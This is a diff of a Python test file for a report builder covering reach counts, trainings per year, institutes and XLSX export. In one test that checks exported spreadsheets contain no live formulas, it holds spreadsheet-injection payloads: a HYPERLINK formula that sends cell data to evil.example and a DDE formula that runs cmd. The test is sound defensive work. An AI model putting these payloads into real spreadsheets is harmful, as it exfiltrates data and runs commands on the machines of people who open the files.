@@ -34,24 +34,24 @@ def test_small_counts_of_people_are_suppressed_for_donors(network):
 
 def test_staff_may_ask_for_exact_figures(network):
     built = report.build(Filters.parse(region="143"), exact=True)
-    assert table(built, "Women and men reached").rows == [["27", "3", "0", "30"]]
+    assert table(built, "Women and men reached").rows == [[27, 3, 0, 30]]
 
 
 def test_trainings_are_counted_per_year_without_suppression(network):
     built = report.build(Filters.parse(region="143"))
-    assert table(built, "Trainings per year").rows == [["2016", "1", "1", "2"], ["2017", "0", "1", "1"]]
+    assert table(built, "Trainings per year").rows == [["2016", 1, 1, 2], ["2017", 0, 1, 1]]
 
 
 def test_the_period_filter_narrows_the_report(network):
     built = report.build(Filters.parse(region="143", since="2017-01-01"))
-    assert table(built, "Trainings per year").rows == [["2017", "0", "1", "1"]]
+    assert table(built, "Trainings per year").rows == [["2017", 0, 1, 1]]
     assert table(built, "Institutes").rows == []
 
 
 def test_report_lists_the_institutes(network):
     built = report.build(Filters.parse(country="KZ"))
     [row] = table(built, "Institutes").rows
-    assert row[1] == "Kazakhstan" and row[3] == "6"
+    assert row[1] == "Kazakhstan" and row[3] == 6
 
 
 def test_a_partners_report_counts_its_cascade_and_says_it_is_not_additive(network, create_organization):
@@ -83,7 +83,8 @@ def test_the_xlsx_report_writes_typed_formulas_as_text_that_no_spreadsheet_runs(
     with zipfile.ZipFile(io.BytesIO(data)) as archive:
         sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
     assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets), "no cell is a formula"
-    cells = {cell.value: cell for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row}
+    cells = {cell.value: cell for sheet in openpyxl.load_workbook(io.BytesIO(data))
+             for row in sheet.iter_rows() for cell in row}
     place = next(value for value in cells if isinstance(value, str) and value.startswith("=HYPERLINK"))
     host_cell = cells['@SUM(1+1)*cmd|" /C calc"!A0']
     assert place == '=HYPERLINK("http://evil.example/?"&A1,"Click"), Kazakhstan', "shown as typed"
@@ -99,12 +100,16 @@ def demo(db):
 
 
 def sheet_rows(built):
+    """Every table sheet's rows (the first sheet says what the report covers), one after the other."""
     import io
 
     from openpyxl import load_workbook
 
     book = load_workbook(io.BytesIO(report.to_xlsx(built)))
-    return [[cell for cell in row] for row in book.active.iter_rows(values_only=True)]
+    rows = []
+    for sheet in book.worksheets[1:]:
+        rows += [list(row) for row in sheet.iter_rows(values_only=True)] + [[None]]
+    return rows
 
 
 def row_after(rows, title, label=None):
@@ -143,7 +148,7 @@ def test_a_generation_hidden_in_the_report_stays_hidden_in_its_headline_and_tota
     reach = row_after(rows, "Headline figures", "total reach (named people and head-counts)")[1]
     start = next(i for i, row in enumerate(rows) if row[0] == "Reach by generation") + 2
     table = [row for row in rows[start:start + 20] if row[0] is not None]
-    table = table[:next((i for i, row in enumerate(table) if not isinstance(row[0], int)), len(table))]
+    table = table[:next((i for i, row in enumerate(table) if not str(row[0]).isdigit()), len(table))]
     others = [row[4] for row in table if row[0] != 2]
     assert len(table) >= 2 and second[4] in ("*", "<5")
     assert not all(isinstance(x, int) for x in [reach, *others])
